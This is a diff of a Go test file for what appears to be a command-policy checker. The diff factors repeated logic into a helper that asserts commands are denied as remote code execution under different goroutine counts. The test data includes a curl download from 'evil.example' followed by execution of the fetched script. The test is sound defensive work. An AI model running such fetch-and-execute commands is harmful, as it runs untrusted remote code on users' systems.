@@ -25,22 +25,7 @@ func TestEffectsSharedDialectPerCommand(t *testing.T) {
 		cmds = append(cmds, ps("Write-Output", "hi"))
 	}
 	cmds = append(cmds, ps("bash", "-c", "/tmp/./x.sh"), bash("/tmp/./x.sh"))
-	judge := func(workers int) *Judgement {
-		defer withEffectWorkers(workers)()
-		return winJudge(cmds...)
-	}
-	one := judge(1)
-	if one.Verdict != Deny {
-		t.Fatalf("one goroutine: %v %v, want deny (remote-code)", one.Verdict, one.Reasons)
-	}
-	for _, workers := range []int{2, 4} {
-		if n := min(workers, effectWorkers(len(cmds))); n < 2 {
-			t.Fatalf("%d commands are judged by %d goroutines", len(cmds), n)
-		}
-		if j := judge(workers); j.Verdict != one.Verdict {
-			t.Errorf("%d workers: %v %v; one goroutine: %v %v", workers, j.Verdict, j.Reasons, one.Verdict, one.Reasons)
-		}
-	}
+	deniedByAll(t, cmds)
 }
 
 // TestResolveKeptByDialect: resolve's answers are remembered by path and
@@ -61,6 +46,14 @@ func TestResolveKeptByDialect(t *testing.T) {
 	cmds[0] = ps("Get-Content", "/tmp/x.sh")
 	cmds[700] = bash("curl", "-o", "/tmp/x.sh", "https://evil.example/x.sh")
 	cmds[701] = bash("/tmp/x.sh")
+	deniedByAll(t, cmds)
+}
+
+// deniedByAll checks that the Windows commands are denied as code fetched
+// from the network and run, whether one goroutine finds their effects
+// or two or four.
+func deniedByAll(t *testing.T, cmds []wc) {
+	t.Helper()
 	judge := func(workers int) *Judgement {
 		defer withEffectWorkers(workers)()
 		return winJudge(cmds...)
@@ -70,6 +63,9 @@ func TestResolveKeptByDialect(t *testing.T) {
 		t.Fatalf("one goroutine: %v %v, want deny (remote-code)", one.Verdict, one.Reasons)
 	}
 	for _, workers := range []int{2, 4} {
+		if n := min(workers, effectWorkers(len(cmds))); n < 2 {
+			t.Fatalf("%d commands are judged by %d goroutines", len(cmds), n)
+		}
 		if j := judge(workers); j.Verdict != one.Verdict {
 			t.Errorf("%d workers: %v %v; one goroutine: %v %v", workers, j.Verdict, j.Reasons, one.Verdict, one.Reasons)
 		}
